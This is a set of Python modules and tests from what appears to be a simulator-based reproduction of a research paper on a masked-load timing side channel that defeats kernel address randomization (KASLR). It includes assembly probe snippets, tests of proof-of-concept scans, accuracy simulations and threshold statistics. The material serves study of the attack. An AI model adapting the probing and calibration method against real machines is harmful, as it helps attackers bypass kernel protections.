    def test_rdtsc_monotone(self, machine):
        source = """
            rdtsc
            shl rdx, 32
            or rax, rdx
            mov r9, rax
            rdtsc
            shl rdx, 32
            or rax, rdx
            sub rax, r9
            ret
        """
        delta = Executor(machine.core).run(source).read("rax")
        assert delta > 0

    def test_clock_advances(self, machine):
        before = machine.clock.cycles
        Executor(machine.core).run("nop\nnop\nret")
        assert machine.clock.cycles > before

    def test_vpxor_zero_idiom(self, machine):
        regs = Executor(machine.core).run(
            "vpcmpeqd ymm0, ymm0, ymm0\nvpxor ymm0, ymm0, ymm0\nret"
        )
        assert regs.read_ymm("ymm0") == b"\x00" * 32

    def test_vpcmpeqd_ones_idiom(self, machine):
        regs = Executor(machine.core).run("vpcmpeqd ymm3, ymm3, ymm3\nret")
        assert regs.read_ymm("ymm3") == b"\xff" * 32

    def test_masked_load_through_isa(self, machine):
        page = machine.playground.user_rw
        space = machine.kernel.user_space
        space.memory.write(space.translate(page).physical_address, b"\x2a")
        source = """
            vpcmpeqd ymm0, ymm0, ymm0   ; all lanes active
            vpmaskmovd ymm1, ymm0, [rdi]
            ret
        """
        regs = Executor(machine.core).run(source, inputs={"rdi": page})
        assert regs.read_ymm("ymm1")[0] == 0x2A

    def test_masked_store_roundtrip(self, machine):
        page = machine.playground.user_rw
        source = """
            vpcmpeqd ymm0, ymm0, ymm0
            vpcmpeqd ymm2, ymm2, ymm2
            vpmaskmovd [rdi], ymm0, ymm2
            vpmaskmovd ymm1, ymm0, [rdi]
            ret
        """
        regs = Executor(machine.core).run(source, inputs={"rdi": page})
        assert regs.read_ymm("ymm1") == b"\xff" * 32

    def test_zero_mask_probe_suppresses_fault(self, machine):
        source = """
            vpxor ymm0, ymm0, ymm0
            vpmaskmovd ymm1, ymm0, [rdi]
            ret
        """
        Executor(machine.core).run(
            source, inputs={"rdi": machine.playground.unmapped}
        )

    def test_active_probe_on_unmapped_faults(self, machine):
        source = """
            vpcmpeqd ymm0, ymm0, ymm0
            vpmaskmovd ymm1, ymm0, [rdi]
            ret
        """
        with pytest.raises(PageFault):
            Executor(machine.core).run(
                source, inputs={"rdi": machine.playground.unmapped}
            )


class TestPoCPrograms:
    def test_double_probe_separates_mapped_unmapped(self, machine):
        base = machine.kernel.base
        mapped = min(run_double_probe_poc(machine, base) for _ in range(5))
        unmapped = min(
            run_double_probe_poc(machine, base - 0x200000) for _ in range(5)
        )
        assert mapped < unmapped

    def test_calibration_poc_matches_library_calibration(self, machine):
        from repro.attacks.calibrate import calibrate_store_threshold

        poc_mean = run_store_calibration_poc(machine, samples=200)
        library = calibrate_store_threshold(machine, samples=200)
        # the PoC includes its own fences/ALU around the store; allow a
        # small fixed skew
        assert abs(poc_mean - library.mean) < 30

    def test_kaslr_scan_poc_finds_base(self, machine):
        best_slot, __ = run_kaslr_scan_poc(
            machine, layout.KERNEL_TEXT_START, layout.KERNEL_TEXT_SLOTS
        )
        assert best_slot == layout.kernel_slot_of(machine.kernel.base)
