"""The REPORT.md builder."""

from repro.analysis.paper_report import SECTIONS, ReportStatus, build_report


class TestBuildReport:
    def test_assembles_present_artifacts(self, tmp_path):
        results = tmp_path / "results"
        results.mkdir()
        (results / "fig04_kaslr_probe.txt").write_text("FIG4 CONTENT")
        (results / "table1_runtime_accuracy.txt").write_text("TABLE1")
        status = build_report(results, tmp_path / "REPORT.md")
        text = (tmp_path / "REPORT.md").read_text()
        assert "FIG4 CONTENT" in text
        assert "TABLE1" in text
        assert "Figure 4" in text
        assert "fig04_kaslr_probe" in status.included

    def test_missing_artifacts_listed(self, tmp_path):
        results = tmp_path / "results"
        results.mkdir()
        status = build_report(results, tmp_path / "REPORT.md")
        assert not status.complete
        assert len(status.missing) == len(SECTIONS)
        assert "Missing artifacts" in (tmp_path / "REPORT.md").read_text()

    def test_paper_order_preserved(self, tmp_path):
        results = tmp_path / "results"
        results.mkdir()
        for stem, __ in SECTIONS:
            (results / (stem + ".txt")).write_text(stem.upper())
        status = build_report(results, tmp_path / "REPORT.md")
        assert status.complete
        text = (tmp_path / "REPORT.md").read_text()
        positions = [text.index(stem.upper()) for stem, __ in SECTIONS]
        assert positions == sorted(positions)

    def test_default_output_location(self, tmp_path):
        results = tmp_path / "benchmarks" / "results"
        results.mkdir(parents=True)
        status = build_report(results)
        assert status.path == tmp_path / "REPORT.md"
        assert status.path.exists()

    def test_status_repr(self):
        status = ReportStatus(["a"], ["b"], None)
        assert "1/2" in repr(status)
