"""Virtual-address arithmetic."""

import pytest

from repro.errors import AddressError
from repro.mmu import address


class TestCanonical:
    def test_user_half_is_canonical(self):
        assert address.is_canonical(0x0000_7FFF_FFFF_FFFF)
        assert address.is_canonical(0)
        assert address.is_canonical(0x5555_5555_4000)

    def test_kernel_half_is_canonical(self):
        assert address.is_canonical(0xFFFF_8000_0000_0000)
        assert address.is_canonical(0xFFFF_FFFF_FFFF_FFFF)

    def test_hole_is_not_canonical(self):
        assert not address.is_canonical(0x0000_8000_0000_0000)
        assert not address.is_canonical(0x8000_0000_0000_0000)
        assert not address.is_canonical(0xFFFF_7FFF_FFFF_FFFF)

    def test_check_canonical_raises(self):
        with pytest.raises(AddressError):
            address.check_canonical(0x1234_0000_0000_0000)

    def test_user_kernel_split(self):
        assert address.is_user_address(0x7FFF_FFFF_F000)
        assert not address.is_user_address(0xFFFF_FFFF_8000_0000)
        assert address.is_kernel_address(0xFFFF_FFFF_8000_0000)
        assert not address.is_kernel_address(0x1000)


class TestIndices:
    def test_zero(self):
        assert address.split_indices(0) == (0, 0, 0, 0)

    def test_known_kernel_address(self):
        # 0xffffffff80000000: PML4 511, PDPT 510, PD 0, PT 0
        assert address.split_indices(0xFFFF_FFFF_8000_0000) == (511, 510, 0, 0)

    def test_each_field_independent(self):
        va = (3 << 39) | (5 << 30) | (7 << 21) | (9 << 12)
        assert address.split_indices(va) == (3, 5, 7, 9)

    def test_offset_does_not_affect_indices(self):
        va = (3 << 39) | (5 << 30)
        assert address.split_indices(va) == address.split_indices(va + 0xFFF)


class TestAlignment:
    def test_align_down(self):
        assert address.page_align_down(0x1FFF) == 0x1000
        assert address.page_align_down(0x1000) == 0x1000

    def test_align_up(self):
        assert address.page_align_up(0x1001) == 0x2000
        assert address.page_align_up(0x2000) == 0x2000

    def test_huge_page_alignment(self):
        two_mb = address.PAGE_SIZE_2M
        assert address.page_align_down(two_mb + 5, two_mb) == two_mb
        assert address.page_align_up(two_mb + 5, two_mb) == 2 * two_mb

    def test_is_aligned(self):
        assert address.is_aligned(0x2000)
        assert not address.is_aligned(0x2001)

    def test_page_offset(self):
        assert address.page_offset(0x1ABC) == 0xABC


class TestRanges:
    def test_pages_in_range(self):
        pages = list(address.pages_in_range(0x1800, 0x3800))
        assert pages == [0x1000, 0x2000, 0x3000]

    def test_empty_range(self):
        assert list(address.pages_in_range(0x1000, 0x1000)) == []

    def test_reversed_range_raises(self):
        with pytest.raises(AddressError):
            list(address.pages_in_range(0x2000, 0x1000))

    def test_vpn(self):
        assert address.vpn_of(0x5000) == 5
        assert address.vpn_of(0x40_0000, address.PAGE_SIZE_2M) == 2
