"""The vectorized trial model, cross-validated against the reference path."""

import pytest

from repro.analysis.fastscan import (
    ScanModel,
    extract_scan_model,
    reproduce_table1_accuracy,
    simulate_base_attack_trials,
)
from repro.attacks.calibrate import calibrate_store_threshold
from repro.attacks.kaslr_break import break_kaslr_intel
from repro.machine import Machine


@pytest.fixture(scope="module")
def model():
    return extract_scan_model("i5-12400F")


class TestModelExtraction:
    def test_modes_match_calibrated_expectations(self, model):
        """The extracted modes are the simulator's, which in turn are the
        paper's: 93 / 107 cycles plus measurement overhead."""
        machine = Machine.linux(seed=1)
        overhead = machine.cpu.measurement_overhead
        assert model.mapped_cycles == 93 + overhead
        assert model.unmapped_cycles == 107 + overhead
        # the Section IV-B identity: store mode == mapped-load mode
        assert model.store_cycles == model.mapped_cycles

    def test_noise_parameters_forwarded(self, model):
        machine = Machine.linux(seed=1)
        assert model.sigma == machine.cpu.noise_sigma
        assert model.spike_prob == machine.cpu.spike_prob
        assert model.rounds == machine.cpu.rounds_default

    def test_layout_parameters(self, model):
        assert model.image_slots == 22
        assert model.usable_slots == 512 - 22


class TestCrossValidation:
    def test_threshold_distribution_matches_reference(self, model):
        """The vectorized calibration and the real one agree."""
        import numpy as np

        machine = Machine.linux(seed=77)
        reference = calibrate_store_threshold(machine)
        __, thresholds = None, []
        for seed in range(20):
            acc_rng = np.random.default_rng(seed)
            from repro.analysis.fastscan import _noise

            samples = model.store_cycles + _noise(acc_rng, (600,), model)
            ordered = np.sort(samples)[: int(600 * 0.95)]
            thresholds.append(
                ordered.mean() + 3 * max(ordered.std(ddof=1), 1.0) + 2
            )
        mean_threshold = sum(thresholds) / len(thresholds)
        assert abs(mean_threshold - reference.threshold) < 4

    def test_small_n_agreement_with_reference_attack(self, model):
        """At small n both paths should report (near-)perfect accuracy."""
        accuracy, __ = simulate_base_attack_trials(model, trials=300, seed=3)
        reference_wins = 0
        for seed in range(15):
            machine = Machine.linux(seed=seed)
            result = break_kaslr_intel(machine)
            reference_wins += result.base == machine.kernel.base
        assert accuracy > 0.97
        assert reference_wins >= 14


class TestPaperScaleAccuracy:
    def test_alder_lake_matches_table1(self):
        """n = 10000: the paper reports 99.60 %."""
        __, accuracy, failures = reproduce_table1_accuracy(
            "i5-12400F", trials=10_000, seed=1
        )
        assert abs(accuracy - 0.9960) < 0.004
        assert failures == 10_000 - round(accuracy * 10_000)

    def test_ice_lake_matches_table1(self):
        """n = 10000: the paper reports 99.29 %."""
        __, accuracy, __ = reproduce_table1_accuracy(
            "i7-1065G7", trials=10_000, seed=1
        )
        assert abs(accuracy - 0.9929) < 0.006

    def test_deterministic_given_seed(self, model):
        a = simulate_base_attack_trials(model, trials=2000, seed=9)
        b = simulate_base_attack_trials(model, trials=2000, seed=9)
        assert a == b

    def test_failure_mode_is_spike_driven(self, model):
        """Silencing the interrupt spikes removes nearly all failures."""
        quiet = ScanModel(
            cpu_key=model.cpu_key,
            mapped_cycles=model.mapped_cycles,
            unmapped_cycles=model.unmapped_cycles,
            store_cycles=model.store_cycles,
            sigma=model.sigma,
            spike_prob=0.0,
            spike_cycles=0,
            rounds=model.rounds,
            image_slots=model.image_slots,
            usable_slots=model.usable_slots,
        )
        accuracy, __ = simulate_base_attack_trials(quiet, trials=5000, seed=2)
        assert accuracy > 0.9995
