"""Vectorized trial model: Table I accuracy at the paper's n = 10000.

The reference simulator executes every masked op individually -- perfect
for fidelity, too slow for ten thousand boots.  This module closes the
gap in two steps:

1. **Extract** the steady-state timing modes from the reference
   simulator by running one real scan (mapped mode, unmapped mode, the
   calibration-store mode) -- no hand-entered numbers, so the model can
   never drift from the simulator.
2. **Vectorize** the per-boot experiment with numpy: draw the KASLR slot,
   the calibration samples (threshold = trimmed mean + 3 sigma + 2, as
   the real attack computes), the per-round probe noise (Gaussian +
   interrupt spikes, the CPU model's parameters), classify, and score.

The model covers exactly the stochastic structure the per-op simulator
has at steady state; tests cross-validate the two paths on the same
seeds before the big-n runs are trusted.
"""

import numpy as np

from repro.attacks.calibrate import calibrate_store_threshold
from repro.cpu.noise import sample_noise_array
from repro.machine import Machine
from repro.os.linux import layout


class ScanModel:
    """Timing modes + noise parameters extracted from one reference run."""

    __slots__ = (
        "cpu_key",
        "mapped_cycles",
        "unmapped_cycles",
        "store_cycles",
        "sigma",
        "spike_prob",
        "spike_cycles",
        "rounds",
        "image_slots",
        "usable_slots",
    )

    def __init__(self, cpu_key, mapped_cycles, unmapped_cycles, store_cycles,
                 sigma, spike_prob, spike_cycles, rounds, image_slots,
                 usable_slots):
        self.cpu_key = cpu_key
        self.mapped_cycles = mapped_cycles
        self.unmapped_cycles = unmapped_cycles
        self.store_cycles = store_cycles
        self.sigma = sigma
        self.spike_prob = spike_prob
        self.spike_cycles = spike_cycles
        self.rounds = rounds
        self.image_slots = image_slots
        self.usable_slots = usable_slots

    def __repr__(self):
        return ("ScanModel({}, mapped={}, unmapped={}, store={})"
                .format(self.cpu_key, self.mapped_cycles,
                        self.unmapped_cycles, self.store_cycles))


def extract_scan_model(cpu_key="i5-12400F", seed=12345):
    """Measure the timing modes on a reference machine (no noise).

    The modes are taken as medians of noiseless true-cycle measurements,
    so the vectorized model reuses the *simulator's* numbers rather than
    the calibration constants directly.
    """
    machine = Machine.linux(cpu=cpu_key, seed=seed)
    core = machine.core
    cpu = machine.cpu
    base = machine.kernel.base

    # steady-state mapped mode: warmed double probe
    core.masked_load(base)
    mapped = core.masked_load(base).cycles

    # steady-state unmapped mode: warm the paging lines first
    unmapped_va = base - (1 << 21)
    core.masked_load(unmapped_va)
    core.masked_load(unmapped_va)
    unmapped = core.masked_load(unmapped_va).cycles

    # calibration-store mode on the clean USER-M page
    page = machine.playground.user_rw
    core.masked_store(page)
    store = core.masked_store(page).cycles

    return ScanModel(
        cpu_key=cpu_key,
        mapped_cycles=mapped + cpu.measurement_overhead,
        unmapped_cycles=unmapped + cpu.measurement_overhead,
        store_cycles=store + cpu.measurement_overhead,
        sigma=cpu.noise_sigma,
        spike_prob=cpu.spike_prob,
        spike_cycles=cpu.spike_cycles,
        rounds=cpu.rounds_default,
        image_slots=machine.kernel.image_2m_pages,
        usable_slots=layout.KERNEL_TEXT_SLOTS - machine.kernel.image_2m_pages,
    )


def _noise(rng, shape, model):
    """The canonical vectorized noise kernel applied to a ScanModel."""
    return sample_noise_array(
        rng, shape, model.sigma, model.spike_prob, model.spike_cycles
    )


def simulate_base_attack_trials(model, trials=10_000, seed=0,
                                calibration_samples=600):
    """Monte-Carlo the full base-derandomization experiment.

    Returns (accuracy, failures): the fraction of boots whose recovered
    base equals the true base, reproducing the paper's n = 10000 column.
    """
    rng = np.random.default_rng(seed)
    slots = layout.KERNEL_TEXT_SLOTS

    # per-trial threshold from the calibration procedure
    calib = model.store_cycles + _noise(
        rng, (trials, calibration_samples), model
    )
    ordered = np.sort(calib, axis=1)
    keep = max(1, int(calibration_samples * 0.95))
    trimmed = ordered[:, :keep]
    thresholds = (
        trimmed.mean(axis=1)
        + 3.0 * np.maximum(trimmed.std(axis=1, ddof=1), 1.0)
        + 2.0
    )

    # per-trial layout: uniform KASLR slot
    true_slots = rng.integers(0, model.usable_slots, size=trials)

    # probe timings: mean over rounds of (mode + noise)
    base_cycles = np.full((trials, slots), float(model.unmapped_cycles))
    slot_index = np.arange(slots)[None, :]
    mapped_mask = (
        (slot_index >= true_slots[:, None])
        & (slot_index < true_slots[:, None] + model.image_slots)
    )
    base_cycles[mapped_mask] = model.mapped_cycles
    measured = np.zeros((trials, slots))
    for _ in range(model.rounds):
        measured += base_cycles + _noise(rng, (trials, slots), model)
    measured /= model.rounds

    classified = measured <= thresholds[:, None]
    # recovered slot: first classified-mapped slot (argmax of the mask);
    # trials with no mapped slot recover nothing
    any_mapped = classified.any(axis=1)
    first_mapped = np.argmax(classified, axis=1)
    correct = any_mapped & (first_mapped == true_slots)
    accuracy = float(correct.mean())
    return accuracy, int(trials - correct.sum())


def reproduce_table1_accuracy(cpu_key="i5-12400F", trials=10_000, seed=0):
    """End-to-end: extract the model, run the paper-scale experiment."""
    model = extract_scan_model(cpu_key)
    accuracy, failures = simulate_base_attack_trials(
        model, trials=trials, seed=seed
    )
    return model, accuracy, failures
