"""Plain-text rendering of the paper's tables and figures.

Benchmarks print through these helpers so their output lines up with the
rows/series the paper reports.
"""


def format_table(headers, rows, title=None):
    """Render an ASCII table; numeric cells are right-aligned."""
    def cell(value):
        if isinstance(value, float):
            return "{:.4g}".format(value)
        return str(value)

    text_rows = [[cell(v) for v in row] for row in rows]
    widths = [
        max(len(headers[i]), *(len(r[i]) for r in text_rows))
        if text_rows else len(headers[i])
        for i in range(len(headers))
    ]
    lines = []
    if title:
        lines.append(title)
    sep = "-+-".join("-" * w for w in widths)
    lines.append(" | ".join(h.ljust(w) for h, w in zip(headers, widths)))
    lines.append(sep)
    for row in text_rows:
        lines.append(" | ".join(v.rjust(w) for v, w in zip(row, widths)))
    return "\n".join(lines)


def format_histogram(values, bins=24, width=50, title=None):
    """ASCII histogram of a timing sample (one figure panel)."""
    if not values:
        return "(empty sample)"
    lo, hi = min(values), max(values)
    if hi == lo:
        hi = lo + 1
    step = (hi - lo) / bins
    counts = [0] * bins
    for v in values:
        index = min(bins - 1, int((v - lo) / step))
        counts[index] += 1
    peak = max(counts)
    lines = []
    if title:
        lines.append(title)
    for i, count in enumerate(counts):
        bar = "#" * int(round(width * count / peak)) if peak else ""
        lines.append(
            "{:8.1f} | {:<{w}} {}".format(lo + i * step, bar, count, w=width)
        )
    return "\n".join(lines)


def format_series(points, label_x="x", label_y="y", width=60, title=None):
    """ASCII line-ish plot of (x, y) points (for Figure 4/6 style output)."""
    if not points:
        return "(no points)"
    ys = [y for __, y in points]
    lo, hi = min(ys), max(ys)
    if hi == lo:
        hi = lo + 1
    lines = []
    if title:
        lines.append(title)
    lines.append("{:>12} {}".format(label_x, label_y))
    for x, y in points:
        pos = int((y - lo) / (hi - lo) * (width - 1))
        lines.append(
            "{:>12} |{}* {:.1f}".format(x, " " * pos, y)
        )
    return "\n".join(lines)
