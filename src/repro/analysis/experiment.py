"""Repeat-trial harness behind Table I's runtime and accuracy columns.

The paper reports averages over n = 10000 boots; each trial here builds a
fresh machine (new KASLR draw, new noise stream) from a distinct seed and
runs the attack under test.
"""


class TrialOutcome:
    """One trial's verdict and runtimes."""

    __slots__ = ("seed", "correct", "probing_ms", "total_ms")

    def __init__(self, seed, correct, probing_ms, total_ms):
        self.seed = seed
        self.correct = correct
        self.probing_ms = probing_ms
        self.total_ms = total_ms


class AccuracyExperiment:
    """Run ``attack(machine) -> (correct, probing_ms, total_ms)`` n times."""

    def __init__(self, machine_factory, attack):
        """``machine_factory(seed)`` builds one victim machine."""
        self.machine_factory = machine_factory
        self.attack = attack
        self.outcomes = []

    def run(self, trials, seed0=0):
        """Execute ``trials`` independent trials; returns self."""
        for i in range(trials):
            seed = seed0 + i
            machine = self.machine_factory(seed)
            correct, probing_ms, total_ms = self.attack(machine)
            self.outcomes.append(
                TrialOutcome(seed, correct, probing_ms, total_ms)
            )
        return self

    @property
    def accuracy(self):
        if not self.outcomes:
            return 0.0
        if isinstance(self.outcomes[0].correct, bool):
            wins = sum(1 for o in self.outcomes if o.correct)
            return wins / len(self.outcomes)
        # fractional correctness (per-module accuracy)
        return sum(o.correct for o in self.outcomes) / len(self.outcomes)

    @property
    def mean_probing_ms(self):
        return sum(o.probing_ms for o in self.outcomes) / len(self.outcomes)

    @property
    def mean_total_ms(self):
        return sum(o.total_ms for o in self.outcomes) / len(self.outcomes)

    def report_row(self, label):
        """One Table I row: label, probing, total, accuracy."""
        return (
            label,
            self.mean_probing_ms,
            self.mean_total_ms,
            self.accuracy,
        )
