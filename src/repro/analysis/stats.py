"""Timing-distribution statistics used across experiments and benches."""

import math


class TimingSummary:
    """Five-number-ish summary of a timing sample."""

    __slots__ = ("n", "mean", "std", "median", "p5", "p95", "minimum",
                 "maximum")

    def __init__(self, values):
        if not values:
            raise ValueError("cannot summarize an empty sample")
        ordered = sorted(values)
        self.n = len(ordered)
        self.mean = sum(ordered) / self.n
        var = sum((v - self.mean) ** 2 for v in ordered) / max(1, self.n - 1)
        self.std = math.sqrt(var)
        self.median = ordered[self.n // 2]
        self.p5 = ordered[int(0.05 * (self.n - 1))]
        self.p95 = ordered[int(0.95 * (self.n - 1))]
        self.minimum = ordered[0]
        self.maximum = ordered[-1]

    def __repr__(self):
        return "TimingSummary(n={}, mean={:.1f}, std={:.1f})".format(
            self.n, self.mean, self.std
        )


def summarize(values):
    """Shorthand constructor."""
    return TimingSummary(values)


def _trim_top(values, fraction):
    """Drop the top ``fraction`` of a sample (interrupt-spike rejection)."""
    ordered = sorted(values)
    keep = max(1, int(len(ordered) * (1.0 - fraction)))
    return ordered[:keep]


def discriminability(sample_a, sample_b, trim=0.02):
    """Robust d-prime separation between two timing distributions.

    |mean difference| over the pooled standard deviation, computed after
    dropping the top ``trim`` fraction of each sample -- RDTSC traces
    always carry rare interrupt outliers that would otherwise swamp the
    variance.  Values above ~2 mean a single measurement separates the
    classes reliably.
    """
    a = TimingSummary(_trim_top(sample_a, trim))
    b = TimingSummary(_trim_top(sample_b, trim))
    pooled = math.sqrt((a.std ** 2 + b.std ** 2) / 2)
    if pooled == 0:
        return float("inf") if a.mean != b.mean else 0.0
    return abs(a.mean - b.mean) / pooled


def threshold_quality(threshold, mapped_sample, unmapped_sample):
    """Error rates a fixed threshold yields on labelled samples.

    Returns (false_negative_rate, false_positive_rate): mapped probes
    classified unmapped, and vice versa.
    """
    fn = sum(1 for v in mapped_sample if v > threshold)
    fp = sum(1 for v in unmapped_sample if v <= threshold)
    return (
        fn / len(mapped_sample) if mapped_sample else 0.0,
        fp / len(unmapped_sample) if unmapped_sample else 0.0,
    )
