"""Alternative threshold-selection strategies for the timing classifier.

The paper derives its threshold from the masked-store identity (Section
IV-B).  This module provides data-driven alternatives an attacker without
that insight could use, and a comparison harness:

* :func:`otsu` -- Otsu's method on the probe histogram (maximizes
  between-class variance; needs no labels, only the bimodal scan itself),
* :func:`valley` -- deepest-valley split of the smoothed histogram,
* :func:`oracle` -- best achievable threshold given ground-truth labels
  (upper bound, for calibration quality reporting).
"""

import math


def _trim_outliers(values, fraction=0.02):
    """Drop the top tail: interrupt spikes would stretch the histogram so
    far that both timing modes collapse into one bin."""
    ordered = sorted(values)
    keep = max(1, int(len(ordered) * (1.0 - fraction)))
    return ordered[:keep]


def otsu(values, bins=64, trim=0.02):
    """Otsu's between-class-variance-maximizing threshold.

    ``trim`` drops that top fraction first; raise it when the sample
    carries a heavy interrupt-spike tail (a handful of far outliers can
    out-weigh a small nearby class in the between-class variance).
    """
    if not values:
        raise ValueError("cannot threshold an empty sample")
    values = _trim_outliers(values, trim)
    lo, hi = min(values), max(values)
    if lo == hi:
        return lo
    step = (hi - lo) / bins
    histogram = [0] * bins
    for value in values:
        index = min(bins - 1, int((value - lo) / step))
        histogram[index] += 1

    total = len(values)
    total_mean = sum(
        (lo + (i + 0.5) * step) * count for i, count in enumerate(histogram)
    ) / total

    best_threshold = lo
    best_variance = -1.0
    weight_low = 0
    mean_low_sum = 0.0
    for i in range(bins - 1):
        center = lo + (i + 0.5) * step
        weight_low += histogram[i]
        mean_low_sum += center * histogram[i]
        if weight_low == 0 or weight_low == total:
            continue
        weight_high = total - weight_low
        mean_low = mean_low_sum / weight_low
        mean_high = (total_mean * total - mean_low_sum) / weight_high
        variance = weight_low * weight_high * (mean_low - mean_high) ** 2
        if variance > best_variance:
            best_variance = variance
            best_threshold = lo + (i + 1) * step
    return best_threshold


def valley(values, bins=64, smooth=3):
    """Threshold at the deepest valley of the smoothed histogram."""
    if not values:
        raise ValueError("cannot threshold an empty sample")
    values = _trim_outliers(values)
    lo, hi = min(values), max(values)
    if lo == hi:
        return lo
    step = (hi - lo) / bins
    histogram = [0] * bins
    for value in values:
        histogram[min(bins - 1, int((value - lo) / step))] += 1
    smoothed = [
        sum(histogram[max(0, i - smooth) : i + smooth + 1])
        / (min(bins, i + smooth + 1) - max(0, i - smooth))
        for i in range(bins)
    ]
    # locate the two tallest local maxima and split at the minimum
    # between them (the distribution is bimodal but either mode may be
    # the dominant one -- 489 of 512 kernel slots are unmapped)
    peaks = [
        i for i in range(bins)
        if smoothed[i] > 0
        and (i == 0 or smoothed[i] >= smoothed[i - 1])
        and (i == bins - 1 or smoothed[i] >= smoothed[i + 1])
    ]
    if len(peaks) < 2:
        return lo + (bins // 2) * step
    peaks.sort(key=lambda i: smoothed[i], reverse=True)
    primary = peaks[0]
    # the second mode must be a genuinely separate bump, not a ripple on
    # the flank of the dominant one
    min_separation = max(2, 2 * smooth + 1)
    secondary = next(
        (p for p in peaks[1:] if abs(p - primary) >= min_separation),
        None,
    )
    if secondary is None:
        return lo + (bins // 2) * step
    left, right = sorted((primary, secondary))
    between = smoothed[left + 1 : right]
    if not between:
        return lo + (left + 1) * step
    valley_index = left + 1 + between.index(min(between))
    return lo + (valley_index + 0.5) * step


def oracle(mapped_values, unmapped_values):
    """Best threshold given labels: minimizes total classification error."""
    candidates = sorted(set(mapped_values) | set(unmapped_values))
    best_threshold = candidates[0]
    best_errors = math.inf
    for threshold in candidates:
        errors = sum(1 for v in mapped_values if v > threshold)
        errors += sum(1 for v in unmapped_values if v <= threshold)
        if errors < best_errors:
            best_errors = errors
            best_threshold = threshold
    return best_threshold, best_errors


def compare_strategies(mapped_values, unmapped_values,
                       paper_threshold=None):
    """Error rates of each strategy on a labelled probe trace.

    Returns {strategy: (threshold, false_negatives, false_positives)}.
    """
    from repro.analysis.stats import threshold_quality

    pooled = list(mapped_values) + list(unmapped_values)
    strategies = {
        "otsu": otsu(pooled),
        "valley": valley(pooled),
    }
    oracle_threshold, __ = oracle(mapped_values, unmapped_values)
    strategies["oracle"] = oracle_threshold
    if paper_threshold is not None:
        strategies["paper (store identity)"] = paper_threshold

    report = {}
    for name, threshold in strategies.items():
        fn, fp = threshold_quality(threshold, mapped_values, unmapped_values)
        report[name] = (threshold, fn, fp)
    return report
