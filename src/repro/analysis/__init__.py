"""Measurement statistics, repeat-trial harnesses, and report rendering."""

from repro.analysis.experiment import AccuracyExperiment, TrialOutcome
from repro.analysis.fastscan import (
    extract_scan_model,
    reproduce_table1_accuracy,
    simulate_base_attack_trials,
)
from repro.analysis.paper_report import build_report
from repro.analysis.roc import auc, classifier_auc, roc_curve
from repro.analysis.thresholds import compare_strategies, otsu, valley
from repro.analysis.stats import (
    TimingSummary,
    discriminability,
    summarize,
    threshold_quality,
)
from repro.analysis.report import format_table, format_histogram

__all__ = [
    "AccuracyExperiment",
    "auc",
    "build_report",
    "classifier_auc",
    "compare_strategies",
    "extract_scan_model",
    "otsu",
    "reproduce_table1_accuracy",
    "roc_curve",
    "simulate_base_attack_trials",
    "valley",
    "TimingSummary",
    "TrialOutcome",
    "discriminability",
    "format_histogram",
    "format_table",
    "summarize",
    "threshold_quality",
]
