"""Assemble the reproduced evaluation into one report document.

After ``pytest benchmarks/ --benchmark-only`` has populated
``benchmarks/results/``, :func:`build_report` stitches the artifacts
together in the paper's order and writes ``REPORT.md`` -- a one-file view
of every reproduced table and figure.
"""

import pathlib

#: (artifact stem, section heading) in the paper's order.
SECTIONS = (
    ("fig01_fault_suppression", "Figure 1 — fault suppression (P1)"),
    ("fig02_page_types", "Figure 2 — page-type timing and counters"),
    ("sec3_walk_levels", "Section III-B — walk-depth timing (P3)"),
    ("sec3_tlb_state", "Section III-B — TLB state (P4)"),
    ("fig03_permissions", "Figure 3 — page-permission timing (P5)"),
    ("sec3_load_store", "Section III-B — load vs store (P6)"),
    ("fig04_kaslr_probe", "Figure 4 — kernel probe trace"),
    ("table1_runtime_accuracy", "Table I — runtime and accuracy"),
    ("fig05_modules", "Figure 5 — module identification"),
    ("sec4d_kpti", "Section IV-D — KPTI break"),
    ("fig06_behavior", "Figure 6 — user-behaviour inference"),
    ("sec4f_sgx", "Section IV-F — SGX enclave break"),
    ("fig07_userspace_maps", "Figure 7 — user-space permission map"),
    ("sec4g_windows", "Section IV-G — Windows 10"),
    ("sec4h_cloud", "Section IV-H — cloud systems"),
    ("sec5_countermeasures", "Section V — countermeasures"),
    ("ablation_double_vs_single", "Ablation — double vs single probe"),
    ("ablation_rounds_sweep", "Ablation — rounds sweep"),
    ("ablation_psc", "Ablation — paging-structure caches"),
    ("ablation_noise_sweep", "Ablation — noise sweep"),
    ("ablation_thresholds", "Ablation — threshold strategies"),
    ("ext_cpu_sweep", "Extension — CPU catalog sweep"),
    ("ext_fingerprint", "Extension — application fingerprinting"),
    ("ext_overhead", "Extension — mitigation overheads"),
    ("ext_keystrokes", "Extension — keystroke-timing inference"),
    ("ext_baselines", "Extension — prior-art baseline comparison"),
)

HEADER = """# REPORT — reproduced evaluation

Generated from the artifacts in ``benchmarks/results/`` (run
``pytest benchmarks/ --benchmark-only`` to refresh them).  Paper-vs-
measured commentary lives in ``EXPERIMENTS.md``; this file is the raw
reproduced output, ordered as in the paper.
"""


class ReportStatus:
    """What the builder found and produced."""

    __slots__ = ("included", "missing", "path")

    def __init__(self, included, missing, path):
        self.included = included
        self.missing = missing
        self.path = path

    @property
    def complete(self):
        return not self.missing

    def __repr__(self):
        return "ReportStatus({}/{} artifacts)".format(
            len(self.included), len(self.included) + len(self.missing)
        )


def build_report(results_dir, output_path=None):
    """Assemble REPORT.md from the per-bench artifacts.

    Missing artifacts are listed, not fatal -- partial bench runs still
    produce a useful report.
    """
    results_dir = pathlib.Path(results_dir)
    if output_path is None:
        output_path = results_dir.parent.parent / "REPORT.md"
    output_path = pathlib.Path(output_path)

    chunks = [HEADER]
    included, missing = [], []
    for stem, heading in SECTIONS:
        artifact = results_dir / (stem + ".txt")
        if not artifact.exists():
            missing.append(stem)
            continue
        included.append(stem)
        chunks.append("## {}\n\n```\n{}\n```\n".format(
            heading, artifact.read_text().rstrip()
        ))
    if missing:
        chunks.append(
            "## Missing artifacts\n\n"
            + "\n".join("* `{}`".format(stem) for stem in missing)
            + "\n"
        )
    output_path.write_text("\n".join(chunks))
    return ReportStatus(included, missing, output_path)
