"""ROC analysis of the mapped/unmapped timing classifier.

The paper picks one threshold; a defender (or a careful attacker)
characterizes the whole operating curve.  Given labelled probe samples,
:func:`roc_curve` sweeps every achievable threshold and yields
(false-positive-rate, true-positive-rate) points; :func:`auc` integrates
them.  An AUC of 1.0 means some threshold separates the classes
perfectly -- which is what the calibrated simulator produces at default
noise, and what stops being true as noise or timer coarsening grows.

Convention: the *positive* class is "mapped" and a sample is classified
positive when its timing is <= the threshold (mapped probes are fast).
"""


class RocPoint:
